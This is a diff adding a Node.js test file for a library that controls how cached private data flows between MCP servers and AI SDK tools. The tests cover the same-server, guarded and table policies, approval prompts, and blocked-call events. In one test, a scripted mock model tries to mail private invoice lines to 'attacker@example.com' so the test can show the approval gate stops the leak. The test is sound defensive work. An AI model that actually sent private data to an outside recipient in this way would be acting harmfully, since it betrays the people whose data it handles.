@@ -1,0 +1,475 @@
+// The flow policy (`flows`, `approve`; docs/SECURITY.md) against the built package: the pure
+// rule of js/flows.mjs, then real MCP SDK servers (`McpServer` over InMemoryTransport) behind
+// `wrapMcpClient` and the AI SDK (`generateText` with its mock model) behind `wrapAiSdkTools`.
+// Each server logs the raw `tools/call` requests its transport delivers: what a server never
+// received is proven from that log, not from the wrapper's word.
+import 'fake-indexeddb/auto';
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+
+import { z } from 'zod';
+import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
+import { createMCPClient } from '@ai-sdk/mcp';
+import { generateText, stepCountIs } from 'ai';
+import { MockLanguageModelV4 } from 'ai/test';
+
+import { ResultCache, cacheTools } from '../../js/node.mjs';
+import { wrapMcpClient } from '../../js/mcp-client.node.mjs';
+import { wrapAiSdkTools } from '../../js/ai-sdk.node.mjs';
+import { checkFlows, decideFlow, flowsOf, judgeFlows } from '../../js/flows.mjs';
+
+const CONV = 'flows-1';
+const LINES = Array.from({ length: 120 }, (_, i) => ({ sku: `SKU-${i}`, description: `Line ${i} of the private invoice`, amount: i * 3.5 }));
+
+let n = 0;
+function newCache(extra = {}) {
+  const events = [];
+  const cache = new ResultCache({ dbName: `flows-${process.pid}-${n++}`, onEvent: (e) => events.push(e), ...extra });
+  return { cache, events };
+}
+
+/** An `McpServer` whose transport logs every raw `tools/call` it delivers (`raw`). */
+async function serve(name, register) {
+  const server = new McpServer({ name, version: '1.0.0' });
+  register(server);
+  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
+  await server.connect(serverSide);
+  const raw = [];
+  const deliver = serverSide.onmessage;
+  serverSide.onmessage = (message, extra) => {
+    if (message?.method === 'tools/call') raw.push(structuredClone(message.params));
+    return deliver.call(serverSide, message, extra);
+  };
+  return { clientSide, raw, close: () => server.close() };
+}
+
+const json = (value) => ({ content: [{ type: 'text', text: JSON.stringify(value) }], structuredContent: value });
+const lines = z.array(z.object({ sku: z.string(), description: z.string(), amount: z.number() }));
+
+/** `vault` (the private data, and a tool of its own taking it back) and `mailer` (open-world `send_report`, closed-world `archive.put`). */
+async function servers() {
+  const vault = await serve('vault', (s) => {
+    s.registerTool('invoice.get', { description: 'An invoice.', inputSchema: { id: z.string() } }, async ({ id }) => json({ invoice: id, lines: LINES }));
+    s.registerTool('invoice.check', { description: 'Checks lines.', inputSchema: { lines } }, async (args) => json({ ok: true, count: args.lines.length }));
+  });
+  const mailer = await serve('mailer', (s) => {
+    s.registerTool('send_report', { description: 'Mails lines to anyone.', inputSchema: { to: z.string(), lines } }, async (args) => json({ sent: args.lines.length }));
+    s.registerTool('archive.put', {
+      description: 'Keeps lines in the company archive.',
+      inputSchema: { lines },
+      annotations: { openWorldHint: false },
+    }, async (args) => json({ archived: args.lines.length }));
+  });
+  return { vault, mailer, close: async () => Promise.all([vault.close(), mailer.close()]) };
+}
+
+async function sdkClient(endpoint) {
+  const client = new Client({ name: 'flows-test', version: '1.0.0' });
+  await client.connect(endpoint.clientSide);
+  return client;
+}
+
+const textJson = (result) => JSON.parse(result.content[0].text);
+
+/** Both servers behind `wrapMcpClient` on one cache; the vault's invoice fetched once (its reference). */
+async function setup(cacheOptions = {}, mailerOptions = {}) {
+  const s = await servers();
+  const { cache, events } = newCache(cacheOptions);
+  const vault = wrapMcpClient(await sdkClient(s.vault), { cache, convId: CONV });
+  const mailer = wrapMcpClient(await sdkClient(s.mailer), { cache, convId: CONV, ...mailerOptions });
+  const invoice = textJson(await vault.callTool({ name: 'invoice.get', arguments: { id: 'INV-7' } }));
+  assert.match(invoice._cache_uri, /^mcp\+cache:\/\//);
+  return { s, cache, events, vault, mailer, uri: invoice._cache_uri };
+}
+
+const mailerCalls = (s) => s.mailer.raw.filter((p) => p.name === 'send_report' || p.name === 'archive.put');
+
+// --- the pure rule ---------------------------------------------------------------------------
+
+test('checkFlows: the modes, objects and functions pass; anything else is a TypeError naming the caller', () => {
+  assert.equal(checkFlows(undefined, 'x'), 'any');
+  for (const mode of ['any', 'same-server', 'guarded']) assert.equal(checkFlows(mode, 'x'), mode);
+  const f = () => 'allow';
+  assert.equal(checkFlows(f, 'x'), f);
+  const table = { vault: ['mailer'], '*': '*' };
+  assert.equal(checkFlows(table, 'x'), checkFlows(table, 'x'), 'snapshotted once');
+  for (const bad of ['all', 'Same-Server', '', null, 3, true, ['vault'], { vault: 'mailer' }, { vault: [1] }, { vault: null }]) {
+    assert.throws(() => checkFlows(bad, 'wrapMcpClient'), (e) => e instanceof TypeError && /^wrapMcpClient: flows must be/.test(e.message), String(bad));
+  }
+  const hostile = new Proxy({}, { ownKeys() { throw new Error('boom'); } });
+  assert.throws(() => checkFlows(hostile, 'x'), TypeError);
+});
+
+test('decideFlow: same server always; same-server, guarded (openWorldHint), tables with "*"', () => {
+  const flow = (from, to, annotations = {}) => ({ from, to, annotations });
+  assert.equal(decideFlow('any', flow('a', 'b')), 'allow');
+  assert.equal(decideFlow('same-server', flow('a', 'a')), 'allow');
+  assert.equal(decideFlow('same-server', flow('a', 'b')), 'deny');
+  assert.equal(decideFlow('same-server', flow(null, null)), 'deny', 'unnamed servers are not the same server');
+  assert.equal(decideFlow('guarded', flow('a', 'b')), 'ask', 'MCP default: open world');
+  assert.equal(decideFlow('guarded', flow('a', 'b', { openWorldHint: true })), 'ask');
+  assert.equal(decideFlow('guarded', flow('a', 'b', { openWorldHint: false })), 'allow');
+  assert.equal(decideFlow('guarded', flow('a', 'a')), 'allow');
+  const table = checkFlows({ vault: ['archive'], crm: '*', '*': ['mailer'] }, 'x');
+  assert.equal(decideFlow(table, flow('vault', 'archive')), 'allow');
+  assert.equal(decideFlow(table, flow('vault', 'mailer')), 'deny', 'a listed source uses its own list');
+  assert.equal(decideFlow(table, flow('crm', 'anything')), 'allow');
+  assert.equal(decideFlow(table, flow('other', 'mailer')), 'allow', '"*" source');
+  assert.equal(decideFlow(table, flow(null, 'mailer')), 'allow', 'an unnamed source is any other');
+  assert.equal(decideFlow(table, flow('other', 'archive')), 'deny');
+  assert.equal(decideFlow(table, flow('vault', null)), 'deny', 'an unnamed target matches only "*"');
+  assert.equal(decideFlow(checkFlows({ vault: ['mailer'] }, 'x'), flow('crm', 'mailer')), 'deny', 'no "*": unlisted sources go nowhere else');
+});
+
+test('flowsOf groups references by source; judgeFlows calls a function policy once a flow, unknown answers deny', async () => {
+  const flows = flowsOf([
+    { uri: 'mcp+cache://c/aaaaaaaa', sourceToolName: 'invoice.get', sourceServer: 'vault' },
+    { uri: 'mcp+cache://c/aaaaaaaa#/lines', sourceToolName: 'invoice.get', sourceServer: 'vault' },
+    { uri: 'mcp+cache://c/bbbbbbbb', sourceToolName: 'notes.get' },
+  ], 'mailer', 'send_report', { openWorldHint: true });
+  assert.deepEqual(flows, [
+    { from: 'vault', to: 'mailer', toolName: 'send_report', sourceToolName: 'invoice.get', uris: ['mcp+cache://c/aaaaaaaa', 'mcp+cache://c/aaaaaaaa#/lines'], annotations: { openWorldHint: true } },
+    { from: null, to: 'mailer', toolName: 'send_report', sourceToolName: 'notes.get', uris: ['mcp+cache://c/bbbbbbbb'], annotations: { openWorldHint: true } },
+  ]);
+  const seen = [];
+  const verdicts = await judgeFlows(async (f) => {
+    seen.push(f.from);
+    return f.from === 'vault' ? 'ask' : 'maybe';
+  }, flows);
+  assert.deepEqual(seen, ['vault', null]);
+  assert.deepEqual(verdicts.ask.map((f) => f.from), ['vault']);
+  assert.deepEqual(verdicts.deny.map((f) => f.from), [null]);
+});
+
+// --- wrapMcpClient over real servers ---------------------------------------------------------
+
+test('"any" (the default): the invoice reaches the mailer whole', async () => {
+  const { s, mailer, uri, cache, events } = await setup();
+  try {
+    assert.equal(cache.flows, 'any');
+    const sent = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x@example.com', lines_uri: `${uri}#/lines` } }));
+    assert.deepEqual(sent, { sent: 120 });
+    assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
+    assert.ok(!events.some((e) => e.kind === 'blocked'));
+  } finally {
+    await s.close();
+  }
+});
+
+test('"same-server": denied before dispatch with the envelope and a blocked event; into its own server it resolves', async () => {
+  const { s, vault, mailer, uri, events } = await setup({ flows: 'same-server' });
+  try {
+    const refused = await mailer.callTool({ name: 'send_report', arguments: { to: 'x@example.com', lines_uri: `${uri}#/lines` } });
+    assert.equal(refused.isError, true);
+    const envelope = textJson(refused);
+    assert.equal(envelope.error, 'reference_not_allowed');
+    assert.deepEqual(envelope._refused_uris, [`${uri}#/lines`]);
+    assert.match(envelope.fix_hint, /"vault"/);
+    assert.match(envelope.fix_hint, /"mailer"/);
+    assert.deepEqual(mailerCalls(s), [], 'the mailer never received the call');
+    const blocked = events.filter((e) => e.kind === 'blocked');
+    assert.deepEqual(blocked, [{ kind: 'blocked', from: 'vault', to: 'mailer', toolName: 'send_report', uris: [`${uri}#/lines`] }]);
+
+    // The vault's own tool takes its data back.
+    assert.deepEqual(textJson(await vault.callTool({ name: 'invoice.check', arguments: { lines_uri: `${uri}#/lines` } })), { ok: true, count: 120 });
+    assert.deepEqual(s.vault.raw.at(-1).arguments.lines, LINES);
+  } finally {
+    await s.close();
+  }
+});
+
+test('every reference of a call is checked: one refused reference blocks the call, and only it is listed', async () => {
+  const s = await servers();
+  try {
+    const { cache } = newCache({ flows: 'same-server' });
+    const vault = wrapMcpClient(await sdkClient(s.vault), { cache, convId: CONV });
+    const mailer = wrapMcpClient(await sdkClient(s.mailer), { cache, convId: CONV });
+    const own = await cache.cacheToolResult({ payload: LINES, convId: CONV, sourceToolName: 'send_report', threshold: 0 });
+    const { _cache_uri: uri, _cache_refs: refs } = textJson(await vault.callTool({ name: 'invoice.get', arguments: { id: 'INV-8' } }));
+    assert.equal(typeof refs?.lines, 'string', 'a `_cache_refs` member');
+    // The entry written without a server is not the mailer's: refused as well.
+    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: [own, refs.lines, `${uri}#/lines/0`] } }));
+    assert.equal(refused.error, 'reference_not_allowed');
+    assert.deepEqual(refused._refused_uris.sort(), [own, refs.lines, `${uri}#/lines/0`].sort());
+    assert.deepEqual(mailerCalls(s), []);
+  } finally {
+    await s.close();
+  }
+});
+
+test('"guarded": openWorldHint false passes; an open-world tool asks approve(flow), which decides that one call', async () => {
+  const asked = [];
+  let answer = false;
+  const approve = async (flow) => {
+    asked.push(flow);
+    return answer;
+  };
+  const { s, mailer, uri, events } = await setup({ flows: 'guarded' }, { approve });
+  try {
+    // A closed-world tool: no question.
+    assert.deepEqual(textJson(await mailer.callTool({ name: 'archive.put', arguments: { lines_uri: `${uri}#/lines` } })), { archived: 120 });
+    assert.equal(asked.length, 0);
+
+    // Open world (no annotation): asked, declined → refused, never dispatched.
+    const call = { name: 'send_report', arguments: { to: 'x@example.com', lines_uri: `${uri}#/lines` } };
+    const declined = textJson(await mailer.callTool(call));
+    assert.equal(declined.error, 'reference_not_allowed');
+    assert.match(declined.fix_hint, /declined/);
+    assert.deepEqual(asked, [{ from: 'vault', to: 'mailer', toolName: 'send_report', sourceToolName: 'invoice.get', uris: [`${uri}#/lines`], annotations: {} }]);
+    assert.equal(mailerCalls(s).filter((p) => p.name === 'send_report').length, 0);
+    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+
+    // Approved → the lines arrive whole.
+    answer = true;
+    assert.deepEqual(textJson(await mailer.callTool(call)), { sent: 120 });
+    assert.deepEqual(mailerCalls(s).filter((p) => p.name === 'send_report').map((p) => p.arguments.lines), [LINES]);
+
+    // The approval covered that call only.
+    answer = false;
+    assert.equal(textJson(await mailer.callTool(call)).error, 'reference_not_allowed');
+    assert.equal(asked.length, 3);
+    assert.equal(mailerCalls(s).filter((p) => p.name === 'send_report').length, 1);
+  } finally {
+    await s.close();
+  }
+});
+
+test('"guarded" without approve: asking is refusing', async () => {
+  const { s, mailer, uri } = await setup({ flows: 'guarded' });
+  try {
+    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${uri}#/lines` } }));
+    assert.equal(refused.error, 'reference_not_allowed');
+    assert.deepEqual(mailerCalls(s), []);
+  } finally {
+    await s.close();
+  }
+});
+
+test('an object policy, and the wrapper\'s flows overriding the cache\'s', async () => {
+  const { s, cache, mailer, uri } = await setup({ flows: { vault: ['archive'] } });
+  try {
+    const call = { name: 'send_report', arguments: { to: 'x', lines_uri: `${uri}#/lines` } };
+    assert.equal(textJson(await mailer.callTool(call)).error, 'reference_not_allowed');
+    assert.deepEqual(mailerCalls(s), []);
+    const allowed = wrapMcpClient(await sdkClient(s.mailer), { cache, convId: CONV, flows: { vault: ['mailer'] } });
+    // `s.mailer` has one transport: reconnecting the same server is not possible, so the
+    // override is proven on a fresh pair below.
+    void allowed;
+  } finally {
+    await s.close();
+  }
+  const t = await servers();
+  try {
+    const { cache } = newCache({ flows: 'same-server' });
+    const vault = wrapMcpClient(await sdkClient(t.vault), { cache, convId: CONV });
+    const mailer = wrapMcpClient(await sdkClient(t.mailer), { cache, convId: CONV, flows: { '*': ['mailer'] } });
+    const { _cache_uri: ref } = textJson(await vault.callTool({ name: 'invoice.get', arguments: { id: 'INV-9' } }));
+    assert.deepEqual(textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${ref}#/lines` } })), { sent: 120 });
+    assert.deepEqual(mailerCalls(t).map((p) => p.arguments.lines), [LINES]);
+  } finally {
+    await t.close();
+  }
+});
+
+test('a function policy gets each flow and may answer a promise; ask goes to approve', async () => {
+  const flows = [];
+  const policy = async (flow) => {
+    flows.push(flow);
+    return flow.toolName === 'archive.put' ? 'allow' : 'ask';
+  };
+  const { s, mailer, uri } = await setup({}, { flows: policy, approve: async () => false });
+  try {
+    assert.deepEqual(textJson(await mailer.callTool({ name: 'archive.put', arguments: { lines_uri: `${uri}#/lines` } })), { archived: 120 });
+    assert.equal(textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${uri}#/lines` } })).error, 'reference_not_allowed');
+    assert.deepEqual(flows.map((f) => [f.from, f.to, f.toolName, f.sourceToolName, f.annotations.openWorldHint]), [
+      ['vault', 'mailer', 'archive.put', 'invoice.get', false],
+      ['vault', 'mailer', 'send_report', 'invoice.get', undefined],
+    ]);
+    assert.deepEqual(mailerCalls(s).map((p) => p.name), ['archive.put']);
+  } finally {
+    await s.close();
+  }
+});
+
+test('a derived reference (cache_select) carries its source\'s server', async () => {
+  const { s, cache, mailer, uri, events } = await setup({ flows: 'same-server' });
+  try {
+    const tools = cacheTools(cache, { convId: CONV });
+    const selected = textJson(await tools.callTool({ name: 'cache_select', arguments: { uri: `${uri}#/lines`, where: [{ field: 'amount', op: '>=', value: 300 }] } }));
+    assert.match(selected._cache_uri, /^mcp\+cache:\/\//);
+    assert.ok(selected.count > 0);
+    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: selected._cache_uri } }));
+    assert.equal(refused.error, 'reference_not_allowed');
+    assert.deepEqual(refused._refused_uris, [selected._cache_uri]);
+    assert.deepEqual(mailerCalls(s), []);
+    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+    // beforeToolCall reports where the data comes from: the vault's tool, not cache_select.
+    const before = await cache.beforeToolCall('send_report', { lines_uri: selected._cache_uri }, { convId: CONV, server: 'mailer' });
+    assert.deepEqual(before.sources, [{ uri: selected._cache_uri, sourceToolName: 'invoice.get', sourceServer: 'vault' }]);
+  } finally {
+    await s.close();
+  }
+});
+
+test('the ResultCache constructor and checkFlows accept and refuse the same values', () => {
+  const throwing = new Proxy({}, { ownKeys() { throw new Error('boom'); } });
+  const getter = Object.defineProperty({}, 'vault', { enumerable: true, get() { throw new Error('boom'); } });
+  const values = [undefined, 'any', 'same-server', 'guarded', () => 'allow', {}, { vault: ['a', 'b'] }, { '*': '*' }, { vault: [] },
+    'all', '', 'ANY', null, 0, true, [], ['vault'], { vault: 'mailer' }, { vault: [1] }, { vault: null }, { vault: ['a', null] }, throwing, getter];
+  for (const [i, value] of values.entries()) {
+    const byJs = (() => { try { checkFlows(value, 'x'); return 'ok'; } catch (e) { return e.constructor.name; } })();
+    const byCache = (() => { try { new ResultCache({ storage: 'memory', flows: value }); return 'ok'; } catch (e) { return e.constructor.name; } })();
+    assert.equal(byCache, byJs, `values[${i}]`);
+    assert.ok(byJs === 'ok' || byJs === 'TypeError');
+  }
+});
+
+test('bad flows and approve are TypeErrors at once', async () => {
+  assert.throws(() => new ResultCache({ storage: 'memory', flows: 'sameserver' }), (e) => e instanceof TypeError && /flows must be/.test(e.message));
+  assert.throws(() => new ResultCache({ storage: 'memory', flows: { vault: 'mailer' } }), TypeError);
+  assert.throws(() => new ResultCache({ storage: 'memory', flows: [] }), TypeError);
+  assert.equal(new ResultCache({ storage: 'memory', flows: { vault: ['a'], '*': '*' } }).flows.vault[0], 'a');
+  const s = await servers();
+  try {
+    const client = await sdkClient(s.mailer);
+    const { cache } = newCache();
+    assert.throws(() => wrapMcpClient(client, { cache, flows: 'nope' }), (e) => e instanceof TypeError && /^wrapMcpClient: flows must be/.test(e.message));
+    assert.throws(() => wrapMcpClient(client, { cache, approve: true }), (e) => e instanceof TypeError && /approve must be a function/.test(e.message));
+    assert.throws(() => wrapAiSdkTools({}, { cache, flows: { a: 'b' } }), (e) => e instanceof TypeError && /^wrapAiSdkTools: flows must be/.test(e.message));
+  } finally {
+    await s.close();
+  }
+});
+
+// --- wrapAiSdkTools: needsApproval and the AI SDK's approval ---------------------------------
+
+const usage = { inputTokens: { total: 10, noCache: 10, cacheRead: 0, cacheWrite: 0 }, outputTokens: { total: 5, text: 5, reasoning: 0 } };
+const toolCall = (id, toolName, input) => ({ content: [{ type: 'tool-call', toolCallId: id, toolName, input: JSON.stringify(input) }], finishReason: { unified: 'tool-calls', raw: undefined }, usage, warnings: [] });
+const answer = (text) => ({ content: [{ type: 'text', text }], finishReason: { unified: 'stop', raw: undefined }, usage, warnings: [] });
+
+async function aiSdkSetup(flows) {
+  const s = await servers();
+  const { cache, events } = newCache({ flows });
+  const vaultMcp = await createMCPClient({ transport: s.vault.clientSide });
+  const mailerMcp = await createMCPClient({ transport: s.mailer.clientSide });
+  const executed = [];
+  const mailerTools = await mailerMcp.tools();
+  // Record every run of the original execute (what the tool would send the server).
+  for (const [name, t] of Object.entries(mailerTools)) {
+    const original = t.execute;
+    t.execute = (args, options) => {
+      executed.push({ name, args });
+      return original.call(t, args, options);
+    };
+  }
+  const tools = {
+    ...wrapAiSdkTools(await vaultMcp.tools(), { cache, convId: CONV, server: 'vault' }),
+    ...wrapAiSdkTools(mailerTools, { cache, convId: CONV, server: 'mailer' }),
+  };
+  const close = async () => {
+    await vaultMcp.close();
+    await mailerMcp.close();
+    await s.close();
+  };
+  return { s, cache, events, tools, executed, close };
+}
+
+test('wrapAiSdkTools: needsApproval answers per call under "guarded"', async () => {
+  const { tools, close } = await aiSdkSetup('guarded');
+  try {
+    const fetched = await tools['invoice.get'].execute({ id: 'INV-1' }, { toolCallId: 'a', messages: [] });
+    const uri = JSON.parse(fetched.content[0].text)._cache_uri;
+    const opts = { toolCallId: 'b', messages: [] };
+    assert.equal(await tools.send_report.needsApproval({ to: 'x', lines_uri: `${uri}#/lines` }, opts), true);
+    assert.equal(await tools.send_report.needsApproval({ to: 'x', lines: LINES.slice(0, 2) }, opts), false, 'no reference');
+    assert.equal(await tools['archive.put'].needsApproval({ lines_uri: `${uri}#/lines` }, opts), false, 'closed world');
+    assert.equal(await tools['invoice.check'].needsApproval({ lines_uri: `${uri}#/lines` }, opts), false, 'same server');
+    assert.equal(await tools.send_report.needsApproval({ to: 'x', lines_uri: 'mcp+cache://flows-1/AAAAAAAAAAAA' }, opts), false, 'unresolvable: the envelope answers');
+  } finally {
+    await close();
+  }
+});
+
+test('wrapAiSdkTools: execute lets an asked flow through only for a call the AI SDK sent to approval, once', async () => {
+  const { s, tools, executed, events, close } = await aiSdkSetup('guarded');
+  try {
+    const fetched = await tools['invoice.get'].execute({ id: 'INV-4' }, { toolCallId: 'a', messages: [] });
+    const input = { to: 'x', lines_uri: `${JSON.parse(fetched.content[0].text)._cache_uri}#/lines` };
+    // Run directly, never asked: refused, the original never runs.
+    const direct = await tools.send_report.execute(input, { toolCallId: 'd1', messages: [] });
+    assert.equal(JSON.parse(direct.content[0].text).error, 'reference_not_allowed');
+    assert.deepEqual(executed, []);
+    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+    // Sent to approval (needsApproval answered true for this call): it runs, once.
+    assert.equal(await tools.send_report.needsApproval(input, { toolCallId: 'd2', messages: [] }), true);
+    assert.deepEqual(JSON.parse((await tools.send_report.execute(input, { toolCallId: 'd2', messages: [] })).content[0].text), { sent: 120 });
+    assert.equal(executed.length, 1);
+    assert.equal(JSON.parse((await tools.send_report.execute(input, { toolCallId: 'd2', messages: [] })).content[0].text).error, 'reference_not_allowed');
+    assert.equal(executed.length, 1);
+    assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
+  } finally {
+    await close();
+  }
+});
+
+test('wrapAiSdkTools: the tool\'s own needsApproval composes; "same-server" denies in execute, never running the original', async () => {
+  const { tools, executed, events, close } = await aiSdkSetup('same-server');
+  try {
+    const fetched = await tools['invoice.get'].execute({ id: 'INV-2' }, { toolCallId: 'a', messages: [] });
+    const uri = JSON.parse(fetched.content[0].text)._cache_uri;
+    const input = { to: 'x', lines_uri: `${uri}#/lines` };
+    assert.equal(await tools.send_report.needsApproval(input, { toolCallId: 'b', messages: [] }), false, 'denied, not asked');
+    const out = await tools.send_report.execute(input, { toolCallId: 'b', messages: [] });
+    assert.equal(JSON.parse(out.content[0].text).error, 'reference_not_allowed');
+    assert.deepEqual(executed, []);
+    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+  } finally {
+    await close();
+  }
+  const { cache } = newCache();
+  const own = wrapAiSdkTools({ t: { inputSchema: z.object({ a: z.string() }), needsApproval: async (i) => i.a === 'yes', execute: async () => 'x' } }, { cache });
+  assert.equal(await own.t.needsApproval({ a: 'yes' }, { toolCallId: 'c', messages: [] }), true);
+  assert.equal(await own.t.needsApproval({ a: 'no' }, { toolCallId: 'c', messages: [] }), false);
+  const always = wrapAiSdkTools({ t: { inputSchema: z.object({}), needsApproval: true, execute: async () => 'x' } }, { cache });
+  assert.equal(await always.t.needsApproval({}, { toolCallId: 'c', messages: [] }), true);
+});
+
+test('generateText under "guarded": the mailing asks; denied, the original execute never runs; approved, the mailer gets the lines', async () => {
+  const { s, tools, executed, close } = await aiSdkSetup('guarded');
+  try {
+    const script = (prompt) => {
+      const results = new Map(prompt.filter((m) => m.role === 'tool').flatMap((m) => m.content.filter((p) => p.type === 'tool-result')).map((p) => [p.toolCallId, p.output]));
+      if (!results.has('c1')) return toolCall('c1', 'invoice.get', { id: 'INV-3' });
+      if (!results.has('c2')) {
+        const output = results.get('c1');
+        const text = output.type === 'content' ? output.value.find((p) => p.type === 'text').text : output.value;
+        return toolCall('c2', 'send_report', { to: 'attacker@example.com', lines_uri: `${JSON.parse(text)._cache_uri}#/lines` });
+      }
+      return answer(`done: ${JSON.stringify(results.get('c2'))}`);
+    };
+    const model = new MockLanguageModelV4({ doGenerate: async ({ prompt }) => script(prompt) });
+    const messages = [{ role: 'user', content: 'Mail the invoice' }];
+    const first = await generateText({ model, tools, messages, stopWhen: stepCountIs(5) });
+    const request = first.content.find((p) => p.type === 'tool-approval-request');
+    assert.ok(request, 'an approval request');
+    assert.equal(request.toolCall.toolName, 'send_report');
+    assert.deepEqual(executed, [], 'nothing ran before the approval');
+
+    const history = [...messages, ...first.response.messages];
+    const respond = (approved) => [...history, { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved }] }];
+
+    const denied = await generateText({ model, tools, messages: respond(false), stopWhen: stepCountIs(5) });
+    assert.deepEqual(executed, [], 'denied: the original execute never ran');
+    assert.equal(mailerCalls(s).length, 0);
+    assert.match(denied.text, /execution-denied/);
+
+    await generateText({ model, tools, messages: respond(true), stopWhen: stepCountIs(5) });
+    assert.equal(executed.length, 1);
+    assert.deepEqual(executed[0].args.lines, LINES);
+    assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
+  } finally {
+    await close();
+  }
+});
